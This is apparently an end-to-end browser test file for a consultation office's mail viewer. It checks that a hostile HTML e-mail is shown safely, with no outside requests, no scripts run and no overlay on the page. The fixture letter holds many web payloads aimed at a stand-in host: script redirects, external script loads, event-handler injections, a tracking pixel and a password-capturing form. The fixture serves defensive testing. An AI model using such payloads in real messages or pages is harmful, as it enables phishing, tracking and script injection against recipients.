// An e-mail that would load, run and lead away if it could: on its page nothing leaves for another
// host, no script runs, and the page reads well at both sizes.

import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { Visitor, command, sizes, startBrowser, startDemo, startService } from './support.mjs';

const evil = 'https://evil.example.net';
const hostile = `<html><head><base href="${evil}/"><link rel="stylesheet" href="${evil}/a.css"><meta http-equiv="refresh" content="0;url=${evil}/b">
<style>@import url(${evil}/c.css); p { background: url(${evil}/d.png) }</style></head>
<body background="${evil}/e.png" onload="parent.ran('onload')">
<p>您好，第二部分第（一）条第1项，竹篮巷口的路灯晚上不亮，老人走路看不清，建议修一修。联系电话：0900-5557788</p>
<img src="${evil}/pixel.gif" alt="一张路灯的照片" onerror="parent.ran('onerror')"><img srcset="${evil}/f.png 2x">
<div style="position:fixed;inset:0;background:url(${evil}/g.png)">盖住整页</div>
<script>parent.ran('script'); top.location = '${evil}/h'</script><script src="${evil}/i.js"></script>
<svg onload="parent.ran('svg')"><image href="${evil}/j.png"/><use href="${evil}/k#x"/></svg>
<form action="${evil}/l"><input name="password" autofocus onfocus="parent.ran('focus')"><button>登录</button></form>
<iframe src="${evil}/m"></iframe><iframe srcdoc="<script>parent.parent.ran('srcdoc')</script>"></iframe><object data="${evil}/n"></object>
<video src="${evil}/o" poster="${evil}/p" autoplay></video><a href="${evil}/q" ping="${evil}/r">点这里领礼品</a>
<table background="${evil}/s"><tr><td>甲</td><td>乙</td></tr></table>
<p>此致<br>敬礼</p><p>韩立夏</p></body></html>`;

const letter = `Received: from mx.example.com (mx.example.com [203.0.113.7])
\tby mail.example.org (Postfix) with ESMTPS id 7; Tue, 10 Jun 2025 09:00:00 +0800
Message-ID: <hostile@example.com>
Date: Tue, 10 Jun 2025 08:59:00 +0800
From: =?utf-8?B?6Z+p56uL5aSP?= <hanlixia@example.com>
To: yijian@example.org
Subject: =?utf-8?B?5YWz5LqO6Lev54Gv55qE5bu66K6u?=
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

${hostile}
`;

const automatic = letter
  .replace('<hostile@', '<automatic@')
  .replace('Subject: =?utf-8?B?5YWz5LqO6Lev54Gv55qE5bu66K6u?=', 'Subject: =?utf-8?B?6Ieq5Yqo5Zue5aSN77ya5LyR5YGH5Lit?=\nAuto-Submitted: auto-replied')
  .replace(hostile, '<p>我在休假，回来再回复。长椅旁边请种两棵树。</p>');

// Nobody listens there.
const mailbox = 'imap://yijian:none@127.0.0.1:9/INBOX?tls=none';

let demo;
let browser;
let data;

before(async () => {
  data = await mkdtemp(join(tmpdir(), 'jianyan-letters-'));
  demo = await startDemo({ folder: data });
  for (const [name, text] of Object.entries({ hostile: letter, automatic })) {
    const file = join(data, `${name}.eml`);
    await writeFile(file, text.replaceAll('\n', '\r\n'));
    await command(['mail', 'import', file, '--consultation', 'demo'], data);
  }
  browser = await startBrowser();
});

after(async () => {
  await browser?.close();
  await demo?.stop();
  await rm(data, { recursive: true, force: true });
});

/** A member of staff whose pages tell what they asked other hosts for and what ran. */
async function watched(name, size, address = demo.address) {
  const visitor = await Visitor.arrive(browser, address, name, { viewport: size });
  visitor.outward = [];
  visitor.ran = [];
  const own = new URL(address).host;
  visitor.page.on('request', (request) => {
    if (new URL(request.url()).host !== own && !request.url().startsWith('data:')) visitor.outward.push(request.url());
  });
  await visitor.page.exposeFunction('ran', (what) => visitor.ran.push(what));
  visitor.page.on('dialog', (dialog) => dialog.dismiss());
  await visitor.signIn(demo.login, demo.password);
  return visitor;
}

for (const [name, size] of Object.entries(sizes)) {
  test(`a hostile letter is read in peace (${name})`, async () => {
    const visitor = await watched(`letters-${name}`, size);
    await visitor.open('/office/c/demo/letters');
    await visitor.look('list');
    await visitor.follow('关于路灯的建议');
    await visitor.page.waitForLoadState('networkidle');
    const frame = visitor.page.frameLocator('iframe.letter-frame');
    await frame.getByText('竹篮巷口的路灯晚上不亮').waitFor();
    assert.equal(await frame.getByText('［图片：一张路灯的照片］').count(), 1);
    assert.equal(await frame.locator('script, img, a, form, input, iframe, object, video, svg, link, base, [style], [onload]').count(), 0);
    // The frame stays where it is put: nothing of it covers the page.
    const box = await visitor.page.locator('iframe.letter-frame').boundingBox();
    assert.ok(box.width <= size.width && box.height < 600, JSON.stringify(box));
    await visitor.page.getByText('邮件头').click();
    await visitor.look('one');
    assert.deepEqual(visitor.outward, []);
    assert.deepEqual(visitor.ran, []);
    assert.equal(new URL(visitor.page.url()).host, new URL(demo.address).host);
  });
}

test('the watching sees what it looks for', async () => {
  const visitor = await watched('letters-watch', sizes.desk);
  const blank = await visitor.page.context().newPage();
  const asked = [];
  blank.on('request', (request) => asked.push(request.url()));
  await blank.setContent(`<img src="${evil}/pixel.gif">`);
  await blank.waitForTimeout(300);
  assert.ok(asked.some((url) => url.startsWith(evil)), 'the same picture in a page without our care is asked for');
});

test('the original is saved, not shown', async () => {
  const visitor = await watched('letters-raw', sizes.desk);
  await visitor.open('/office/c/demo/letters');
  await visitor.follow('关于路灯的建议');
  // By the keyboard: it does not depend on where the frame lies while the page is still being laid out.
  await visitor.page.getByRole('link', { name: '下载原件' }).focus();
  const [download] = await Promise.all([visitor.page.waitForEvent('download'), visitor.page.keyboard.press('Enter')]);
  assert.match(download.suggestedFilename(), /\.eml$/);
  await visitor.open('/office/c/demo/letters');
  await visitor.follow('关于路灯的建议');
  assert.ok(await visitor.page.getByText('下载来信原件').count() > 0);
});

test('a mailbox that cannot be read is told of on every page', async () => {
  const service = await startService(data, { JIANYAN_MAILBOXES: `${mailbox} maildir:${data}` });
  try {
    for (const [name, size] of Object.entries(sizes)) {
      const visitor = await watched(`letters-mailboxes-${name}`, size, service.address);
      const told = visitor.page.getByRole('link', { name: '有信箱无法收取' });
      for (let tries = 0; (await told.count()) === 0 && tries < 50; tries += 1) await visitor.open('/office/c/demo/remarks');
      await told.click();
      await visitor.page.getByText('无法连接收信服务器').waitFor();
      await visitor.look('mailboxes');
      await visitor.open('/en/office/mailboxes');
      await visitor.look('mailboxes-en');
      await visitor.page.getByRole('link', { name: 'awaiting review' }).click();
      await visitor.page.getByText('自动回复：休假中').waitFor();
    }
  } finally {
    await service.stop();
  }
});

for (const [name, size] of Object.entries(sizes)) {
  test(`what was read is put right, and what was held back is decided (${name})`, async () => {
    const visitor = await watched(`letters-amend-${name}`, size);
    const { page } = visitor;
    await visitor.open('/office/c/demo/letters?state=held');
    if (name === 'phone') {
      await visitor.follow('自动回复：休假中');
      await visitor.look('held');
      await visitor.press('归为非意见');
      await page.getByText('已归为非意见').first().waitFor();
      await visitor.look('set-down');
      await visitor.press('恢复办理');
      await visitor.press('登记为意见');
      await page.getByText('已登记为意见').waitFor();
      await visitor.look('registered');
    }
    await visitor.open('/office/c/demo/letters');
    await visitor.follow('关于路灯的建议');
    await page.getByText('识别有误？更正联系方式').click();
    await page.getByText('有遗漏？从邮件中补录一条意见').click();
    await visitor.look('forms');
    await page.fill('#phone', '12');
    await page.getByRole('button', { name: '更正联系方式' }).click();
    await page.getByText('还没有保存').waitFor();
    await visitor.look('wrong');
    await page.fill('#phone', '0900-5557799');
    await page.getByRole('button', { name: '更正联系方式' }).click();
    await page.getByText('联系方式已经更正').waitFor();
    await visitor.look('corrected');
    const here = new URL(page.url()).pathname;
    await visitor.open(`/en${here}`);
    await visitor.look('en');
    assert.deepEqual(visitor.outward, []);
    assert.deepEqual(visitor.ran, []);
  });
}
